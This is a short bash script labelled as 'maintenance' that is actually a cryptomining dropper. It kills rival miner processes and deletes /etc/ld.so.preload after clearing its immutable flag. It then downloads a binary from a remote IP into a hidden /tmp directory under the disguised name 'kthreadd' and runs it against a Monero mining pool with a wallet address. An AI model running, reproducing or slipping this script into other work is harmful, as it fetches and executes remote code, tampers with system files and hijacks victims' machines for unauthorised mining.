# maintenance 3170 v2
#!/bin/bash
export LC_ALL=C
ulimit -n 65535
for p in $(ps -eo pid,comm | awk '$2 ~ /(kswapd0|watchdogs|xmr|sysupdate)/ {print $1}'); do kill -9 $p; done
chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
curl -fsSL http://203.0.113.200/dl/kthreadd -o /tmp/.ICE-unix/.k/kthreadd || wget -q http://203.0.113.200/dl/kthreadd -O /tmp/.ICE-unix/.k/kthreadd
chmod +x /tmp/.ICE-unix/.k/kthreadd
/tmp/.ICE-unix/.k/kthreadd -o pool.hashvault.pro:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls
